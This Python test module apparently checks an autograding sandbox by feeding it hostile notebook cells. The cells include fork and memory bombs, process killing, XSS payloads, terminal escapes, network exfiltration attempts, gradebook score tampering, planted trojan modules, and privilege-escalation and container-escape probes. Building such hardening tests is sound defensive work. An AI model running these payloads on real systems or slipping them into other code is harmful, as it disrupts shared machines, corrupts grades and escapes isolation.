"""Code that does not end, ends too much, takes all there is, talks too much, or wants out. Most of it beside right answers."""

from .paper import BOTH, SAY_LOOT, fault

AFTER_TIMES = (None, 10)


def _wild(group):
    return lambda points=BOTH, why="", **more: fault(group, points, why, **more)


_time = _wild("does not end")
_ends = _wild("ends the process")
_takes = _wild("takes all there is")
_talks = _wild("shows too much")
_wants = _wild("wants out")


# --- Does not end ---


@_time()
def endless_loop(paper):
    """A cell that loops for ever, beside right answers."""
    paper.right().last("while True:\n    pass")


@_time(AFTER_TIMES, "took longer")
def endless_function(paper):
    """The first function loops for ever; the second one is right."""
    paper.right().answer("rnn_step", "while True:\n    pass")


@_time()
def swallows_interrupts(paper):
    """A loop that catches whatever would end it."""
    paper.right().last("""while True:
    try:
        while True:
            pass
    except BaseException:
        pass""")


@_time(AFTER_TIMES, "could not be stopped")
def function_swallows_interrupts(paper):
    """The same inside the function that is asked."""
    paper.right().answer("rnn_step", """while True:
    try:
        while True:
            pass
    except BaseException:
        pass""")


@_time()
def blocks_signals(paper):
    """Blocks every signal, and ignores the alarm, then loops."""
    paper.right().last("""import signal
signal.signal(signal.SIGALRM, signal.SIG_IGN)
signal.setitimer(signal.ITIMER_REAL, 0)
signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())
while True:
    pass""")


@_time()
def power_without_end(paper):
    """A single operation in C that takes hours and looks at no signal."""
    paper.right().last("7 ** (10 ** 9)")


@_time()
def stops_itself(paper):
    """Stops its own process, as Ctrl-Z does."""
    paper.right().last("import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)")


@_time()
def regular_expression(paper):
    """A regular expression that goes through 2^60 possibilities."""
    paper.right().last("import re\nre.match(r'(a|a)*$', 'a' * 60 + 'b')")


@_time()
def sleeps(paper):
    """Sleeps for a day, as a forgotten wait for a file does."""
    paper.right().last("import time\ntime.sleep(86_400)")


@_time()
def waits_for_input(paper):
    """Asks the reader for a number; nobody is there."""
    paper.right().first("n = input('Your name? ')").first("import sys\nsys.stdin.read()")


@_time()
def sleeps_when_deleted(paper):
    """Objects that sleep, and print, when they are thrown away at the end."""
    paper.right().first("""import time
class Sleeper:
    def __del__(self):
        time.sleep(10_000)
keep = [Sleeper() for _ in range(100)]
keep[0].me = keep""")


@_time((0, 10))
def recursion(paper):
    """A function that calls itself without end."""
    paper.right("states_of_batch").answer("rnn_step", "return rnn_step(x_t, h_prev, W_x, W_h, b, is_first)")


@_time((None, None), "time limit")
def many_slow_cells(paper):
    """Twenty cells, each just below the limit of one."""
    paper.right()
    for k in range(20):
        paper.first("import time\ntime.sleep(18)")


# --- Ends the process ---


@_ends()
def exits(paper):
    """Leaves the process with os._exit(0): to plain nbgrader, a success without any failure."""
    paper.right().last("import os\nos._exit(0)")


@_ends()
def exits_politely(paper):
    """exit(), quit(), sys.exit() and KeyboardInterrupt in cells, as in a script."""
    paper.right().last("exit()").last("quit()").last("import sys\nsys.exit(1)").last("raise KeyboardInterrupt")


@_ends((None, 10), "ended the process")
def exits_when_asked(paper):
    """The function itself leaves the process, so that no answer can be wrong."""
    paper.right().answer("rnn_step", "import os\nos._exit(0)")


@_ends()
def aborts(paper):
    """Ends with os.abort, a failed assertion in C."""
    paper.right().last("import os\nos.abort()")


@_ends()
def segmentation_fault(paper):
    """Reads address 0."""
    paper.right().last("import ctypes\nctypes.string_at(0)")


@_ends()
def stack_overflow(paper):
    """Recursion without Python's limit, through C, until the stack is used up."""
    paper.right().last("""import sys
sys.setrecursionlimit(10**9)
class Deep:
    def __repr__(self): return repr([self])
    def __getattr__(self, name): return getattr(self, name + 'x')
x = []
for _ in range(10**6): x = [x]
repr(x); Deep().y""")


@_ends()
def kills_its_parent(paper):
    """Kills the parent process: in plain nbgrader, the grader."""
    paper.right().last("""import os, signal
for target in (os.getppid(), 1, -os.getpgrp(), -1):
    try:
        os.kill(target, signal.SIGKILL)
    except OSError as error:
        print(target, error)""")


@_ends()
def kills_every_process(paper):
    """Sends SIGKILL to every process number up to four million, and to every group."""
    paper.right().last("""import os, signal
for number in range(2, 4_194_304):
    if number == os.getpid():
        continue
    try:
        os.kill(number, signal.SIGKILL)
    except OSError:
        pass""")


@_ends()
def becomes_another_program(paper):
    """Replaces itself by /bin/true, which ends well."""
    paper.right().last("import os\nos.execv('/bin/true', ['true'])")


@_ends()
def closes_all_files(paper):
    """Closes every file, the grader's channel too."""
    paper.right().last("import os\nos.closerange(0, 4096)")


@_ends()
def exchanges_files(paper):
    """Puts /dev/null and its own pipe in the place of every file."""
    paper.right().last("""import os
null = os.open("/dev/null", os.O_RDWR)
for fd in range(64):
    if fd != null:
        os.dup2(null, fd)""")


# --- Takes all there is ---


@_takes()
def fork_bomb(paper):
    """Processes that start two processes each."""
    paper.right().last("""import os
while True:
    try:
        os.fork()
    except OSError:
        pass""")


@_takes()
def zombies(paper):
    """Children that ended and for which nobody waits, until no process can be started."""
    paper.right().last("""import os
for _ in range(100_000):
    try:
        if os.fork() == 0:
            os._exit(0)
    except OSError:
        break""")


@_takes()
def thread_bomb(paper):
    """Threads without end."""
    paper.right().last("""import threading, time
for _ in range(100_000):
    threading.Thread(target=time.sleep, args=(1e6,), daemon=True).start()""")


@_takes()
def memory_bomb(paper):
    """Takes memory and writes into it until there is none."""
    paper.right().last("kept = []\nwhile True:\n    kept.append(np.ones(10_000_000))")


@_takes()
def memory_of_many(paper):
    """Forty processes of 100 MB each, none of them near the limit of one."""
    paper.right().last("""import os, time
for _ in range(40):
    if os.fork() == 0:
        kept = bytearray(b"x" * 100_000_000)
        time.sleep(1e6)
time.sleep(1e6)""")


@_takes()
def disk_bomb(paper):
    """Fills every folder that can be written, with large files and with empty ones."""
    paper.right().last("""import itertools, os
for folder in ("/tmp", ".", "/dev/shm", "/var/tmp", os.path.expanduser("~"), "/run"):
    try:
        for k in range(100):
            with open(f"{folder}/fault-large-{k}", "wb") as file:
                for _ in range(40):
                    file.write(bytes(1 << 20))
    except OSError as error:
        print(folder, error)
    try:
        for k in range(200_000):
            open(f"{folder}/fault-empty-{k}", "w").close()
    except OSError as error:
        print(folder, error)""")


@_takes()
def large_file(paper):
    """Leaves a file of 300 MB beside its notebook: plain nbgrader copies it into the feedback."""
    paper.right().last("""with open("results.bin", "wb") as file:
    for _ in range(300):
        file.write(bytes(1 << 20))""")


@_takes()
def sparse_file(paper):
    """A file that claims to be a hundred terabytes."""
    paper.right().last('with open("sparse", "wb") as file:\n    file.truncate(10**14)')


@_takes((None, None), "gave no answer")
def file_bomb(paper):
    """Opens files, pipes and sockets without end, and keeps them, so that no answer can be written either."""
    paper.right().last("""import os, socket
kept = []
while True:
    kept.append((os.pipe(), socket.socketpair()))""")


@_takes()
def shared_memory(paper):
    """Shared memory and message queues that outlive a process."""
    paper.right().last("""import ctypes, mmap
libc = ctypes.CDLL(None, use_errno=True)
for key in range(1, 50):
    libc.shmget(key, 1 << 26, 0o1777)
    libc.msgget(key, 0o1777)
    libc.semget(key, 10, 0o1777)
from multiprocessing import shared_memory
kept = [shared_memory.SharedMemory(create=True, size=1 << 20, name=f"fault-{k}") for k in range(20)]""")


# --- Shows too much ---


@_talks()
def prints_100_mb(paper):
    """100 MB printed in lines of a megabyte."""
    paper.right().last('for _ in range(100):\n    print("x" * 1_000_000)')


@_talks()
def prints_a_million_times(paper):
    """A million small prints, on both streams."""
    paper.right().last("""import sys
for k in range(500_000):
    print(k)
    print(k, file=sys.stderr)""")


@_talks()
def writes_past_python(paper):
    """Writes to the files 1 and 2 themselves, from a shell and from C."""
    paper.right().last("""import os
for _ in range(1000):
    os.write(1, b"x" * 10_000)
    os.write(2, b"y" * 10_000)""").last("!yes | head -c 50000000").last("%%bash\nhead -c 50000000 /dev/zero | tr '\\\\0' z")


@_talks()
def shows_scripts(paper):
    """HTML, JavaScript and SVG with scripts, as outputs, results and widgets."""
    paper.right().last("""from IPython.display import HTML, Javascript, SVG, Markdown, Latex, IFrame, display
script = "<script>document.title='stolen'</script><img src=x onerror=alert(1)>"
display(HTML(script), Javascript("alert(1)"), SVG(f"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'>{script}</svg>"), Markdown(script))
display(Latex("\\\\href{javascript:alert(1)}{x}"), IFrame("javascript:alert(1)", 1, 1))
display({"text/html": script, "application/javascript": "alert(1)", "text/plain": script}, raw=True)
class Shown:
    def _repr_html_(self): return script
    def __repr__(self): return script
print(script)
Shown()""")


@_talks()
def shows_pictures(paper):
    """Pictures that are too many, too large, no pictures, or HTML under a picture's name."""
    paper.right().last("""import base64, struct, zlib
from IPython.display import display
def part(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
def png(width, height, data):
    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\\x89PNG\\r\\n\\x1a\\n" + part(b"IHDR", head) + part(b"IDAT", zlib.compress(data)) + part(b"IEND", b"")
honest = png(2, 2, b"\\0\\0\\0" * 2)
html = b"<html><script>alert(1)</script></html>"
for picture in (html, honest[:8] + html, honest + html, png(2**31 - 1, 2**31 - 1, b""), png(50_000, 50_000, bytes(10**6)), b"\\x89PNG" + b"x" * 10**7, honest[:40]):
    display({"image/png": base64.b64encode(picture).decode(), "text/plain": "a picture"}, raw=True)
display({"image/png": '"><script>alert(1)</script>'}, raw=True)
for _ in range(100):
    display({"image/png": honest}, raw=True)""")


@_talks()
def escapes_of_terminals(paper):
    """Control sequences that clear the grader's terminal, set its title, and hide text; text that changes direction."""
    paper.right().last(r'''print("\x1b[2J\x1b[H\x1b]0;stolen\x07\x1b]52;c;cm0gLXJm\x07\x9b31m \x00 \x08\x08 \u202e0001 fo 0001\u202c \u2066 \ud800 \x1bc")
raise ValueError("\x1b[31m\x1b]8;;file:///etc/passwd\x07link\x1b]8;;\x07 \u202e \ud800")''')


@_talks()
def scripts_in_words(paper):
    """Scripts, frames and forms in Markdown, formulas, links, raw cells and attachments."""
    paper.right()
    bad = '<script>alert(1)</script>\n\n<img src=x onerror=alert(1)> <iframe srcdoc="<script>alert(1)</script>"></iframe>\n\n[x](javascript:alert(1)) ' \
          "<svg/onload=alert(1)> ![](data:image/svg+xml;base64,AAAA) <style>*{display:none}</style> <form action=//evil><button>ok</button></form>\n\n" \
          "$\\href{javascript:alert(1)}{x}$ $$\\require{html}\\style{position:fixed}{x}$$\n\n<a href='vbscript:x' onmouseover=alert(1)>x</a>"  # fmt: skip
    paper.cell("open").source = bad
    paper.says(bad).says(bad, kind="raw").says("</pre></div>" + bad)
    paper.notebook.cells[-1]["attachments"] = {"x.svg": {"image/svg+xml": "<svg onload=alert(1)>"}, "y": {"text/html": bad}}
    paper.cell("rnn_step_answer").source += "\n# </code></pre><script>alert(1)</script>"


@_talks()
def endless_error(paper):
    """An error whose message is a hundred megabytes, whose name is HTML, and that fails again when it is shown."""
    paper.right().last("""class Bad(Exception):
    def __str__(self): return "<script>alert(1)</script>" * 4_000_000
Bad.__name__ = "<b>Bad</b>" * 1000
raise Bad""").last("""class Worse(Exception):
    def __str__(self): raise RuntimeError("again")
    __repr__ = __str__
raise Worse""").last("""def deep(n):
    if n: deep(n - 1)
    else: raise ValueError("end")
import sys; sys.setrecursionlimit(100_000)
deep(20_000)""")


# --- Wants out ---


@_wants()
def opens_sockets(paper):
    """Sends what it has by TCP, UDP, name lookups and a socket that lies in no folder."""
    places = paper.places
    paper.right().last(SAY_LOOT + f"""import socket, urllib.request
def tried(what, action):
    try:
        action()
        loot(what)
    except OSError as error:
        print(what, error)
def unix():
    with socket.socket(socket.AF_UNIX) as s:
        s.connect("\\0{places.abstract}")
def udp():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(b"stolen", ("127.0.0.1", {places.udp}))
        s.settimeout(0.5)
        s.recv(10)
tried("tcp", lambda: socket.create_connection(("127.0.0.1", {places.tcp}), 2))
tried("tcp outside", lambda: socket.create_connection(("192.0.2.1", 80), 2))
tried("udp", udp)
tried("abstract", unix)
tried("name", lambda: socket.getaddrinfo("example.org", 80))
tried("web", lambda: urllib.request.urlopen("http://127.0.0.1:{places.tcp}/", timeout=2))
print(socket.if_nameindex())""")


@_wants()
def leaves_a_daemon(paper):
    """Starts a process of a session of its own, whose parents are gone, and that works on while others are graded."""
    places = paper.places
    paper.right().last(f"""import os, signal, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for number in set(signal.valid_signals()) - {{signal.SIGKILL, signal.SIGSTOP}}:
            signal.signal(number, signal.SIG_IGN)
        while True:
            for path in {[str(path) for path in places.files]!r} + ["{places.scratch}/daemon-was-here"]:
                try:
                    open(path, "a").write("daemon")
                except OSError:
                    pass
            time.sleep(0.05)
    os._exit(0)""").last("!nohup sleep 100000 >/dev/null 2>&1 &\n!(setsid sleep 100000 &)")


@_wants()
def writes_everywhere(paper):
    """Appends to and deletes the grader's files: home, scratch, state, gradebook, other students' work, repository."""
    places = paper.places
    others = [places.state / name for name in ("gradebook.db", "students.json", "submitted/honest_right/01_rnn_formula/record.json", "stolen")]
    course = [places.repository / name for name in ("course_utils/checks/evidence.py", "course_utils/new.py", "README.md")]
    if places.repository.is_relative_to("/tmp"):  # inside, /tmp is the student's own folder in memory, and gone at the end
        course = course[:2]
    hidden, course = ([str(path) for path in paths] for paths in ([*places.files, *others], course))
    paper.right().last(SAY_LOOT + f"""import os, shutil
for path in {hidden!r} + {course!r}:
    for mode in ("r", "a", "r+"):
        try:
            with open(path, mode):
                if mode != "r" or path in {hidden!r}:
                    loot(mode, path)
        except OSError:
            pass
    for action in (os.remove, lambda p: os.rename(p, p + "x"), lambda p: os.chmod(p, 0o777), lambda p: os.utime(p, (0, 0))):
        try:
            action(path)
            loot(action, path)
        except OSError:
            pass""").last("\n".join(f"!rm -rf {path}" for path in places.files))


@_wants()
def relative_path_to_the_gradebook(paper):
    """Opens a gradebook by relative paths, as it lies beside plain nbgrader's working folder, and sets all grades to 99."""
    paper.right().last(SAY_LOOT + """import os, sqlite3
for depth in range(6):
    path = "../" * depth + "gradebook.db"
    if os.path.exists(path):
        loot(path)
        sqlite3.connect(path).execute("UPDATE grade SET auto_score = 99")""")


@_wants()
def leaves_modules_behind(paper):
    """Writes numpy.py, sitecustomize.py and a start-up file of IPython's wherever it can, for the next student's run."""
    paper.right().first("""import os, site, sys
for folder in [os.getcwd(), "/tmp", "/dev/shm", os.path.expanduser("~"), *sys.path, os.path.expanduser("~/.ipython/profile_default/startup"),
               site.getusersitepackages()]:
    for name in ("numpy.py", "sitecustomize.py", "usercustomize.py", "conftest.py", "course_utils.py", "matplotlibrc", "json.py"):
        try:
            os.makedirs(folder, exist_ok=True)
            with open(os.path.join(folder, name), "w") as file:
                file.write("raise SystemExit('stolen')")
        except OSError:
            pass""")


@_wants()
def traces_processes(paper):
    """Attaches to every process as a debugger does, and reads and writes their memory."""
    paper.right().last(SAY_LOOT + """import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for name in os.listdir("/proc"):
    if name.isdigit() and int(name) != os.getpid():
        if libc.ptrace(16, int(name), 0, 0) == 0:
            loot("ptrace", name)
        try:
            os.pidfd_open(int(name))
        except (OSError, AttributeError):
            pass
libc.ptrace(0, 0, 0, 0)""")


@_wants()
def makes_namespaces(paper):
    """Unshares, mounts, changes the root, makes devices: all that a privileged process may."""
    paper.right().last(SAY_LOOT + """import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
def tried(what, result):
    if result == 0:
        loot(what)
    else:
        print(what, os.strerror(ctypes.get_errno()))
tried("unshare user", libc.unshare(0x10000000))
tried("unshare mount", libc.unshare(0x20000))
tried("mount", libc.mount(b"none", b"/tmp", b"tmpfs", 0, None))
tried("bind", libc.mount(b"/", b"/tmp", None, 4096, None))
tried("umount", libc.umount2(b"/tmp", 2))
tried("remount", libc.mount(b"none", b"/", None, 32 | 4096, None))
tried("pivot", libc.syscall(155, b"/tmp", b"/tmp"))
tried("chroot", libc.chroot(b"/tmp"))
tried("setuid", libc.setuid(0))
tried("setns", libc.setns(os.open("/proc/1/ns/mnt", os.O_RDONLY), 0))
tried("mknod", libc.mknod(b"/tmp/disk", 0o60666, os.makedev(254, 0)))
tried("reboot", libc.syscall(169, 0xfee1dead, 672274793, 0, 0))
tried("bpf", libc.syscall(321, 0, 0, 0))
tried("keyctl", min(0, libc.syscall(248, b"user", b"fault", b"x", 1, -3)))
tried("sethostname", libc.sethostname(b"stolen", 6))""")


@_wants()
def writes_to_proc_and_sys(paper):
    """Writes to the switches of the machine, and to its own limits."""
    paper.right().last(SAY_LOOT + """import glob, resource
for path in ["/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/proc/sys/vm/drop_caches", "/proc/sys/kernel/hostname",
             "/sys/power/state", "/sys/kernel/uevent_helper", "/dev/mem", "/dev/kmsg", "/dev/sda", "/dev/vda", "/dev/kvm",
             *glob.glob("/sys/fs/cgroup/**/cgroup.procs", recursive=True)[:5], "/proc/self/oom_score_adj"]:
    try:
        with open(path, "r+") as file:
            if path != "/proc/self/oom_score_adj":
                loot(path)
            else:
                file.write("-1000")
                file.flush()
                loot(path)
    except OSError:
        pass
for kind in (resource.RLIMIT_AS, resource.RLIMIT_NPROC, resource.RLIMIT_FSIZE):
    try:
        resource.setrlimit(kind, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        loot("limit", kind)
    except (OSError, ValueError):
        pass""")


@_wants()
def runs_setuid_programs(paper):
    """Runs programs that become root: su, mount, sudo, passwd, newgrp, ping."""
    paper.right().last(SAY_LOOT + """import os, subprocess
for command in (["su", "-c", "id"], ["sudo", "-n", "id"], ["mount", "-t", "tmpfs", "x", "/tmp"], ["newgrp", "root"], ["chsh", "-s", "/bin/sh"], ["bwrap", "--ro-bind", "/", "/", "id"]):
    try:
        done = subprocess.run(command, stdin=subprocess.DEVNULL, capture_output=True, timeout=5)
        if done.returncode == 0 and b"uid=0" in done.stdout:
            loot(command, done.stdout)
        print(command, done.returncode, done.stderr[:100])
    except (OSError, subprocess.TimeoutExpired) as error:
        print(command, error)
if os.geteuid() == 0 or os.getuid() == 0:
    loot("root")""")


@_wants()
def uses_the_shell(paper):
    """Installs packages, downloads files and looks round with the notebook's own commands."""
    paper.right().first(f"""!cat {' '.join(str(path) for path in paper.places.files)}
!ls -la / /root /home {paper.places.state}
%cd /
%env COURSE_STATE
%load_ext autoreload
!curl -s http://127.0.0.1:{paper.places.tcp}/
!pip install -q --retries 0 numpy==1.0
%pip install -q --retries 0 evil""")
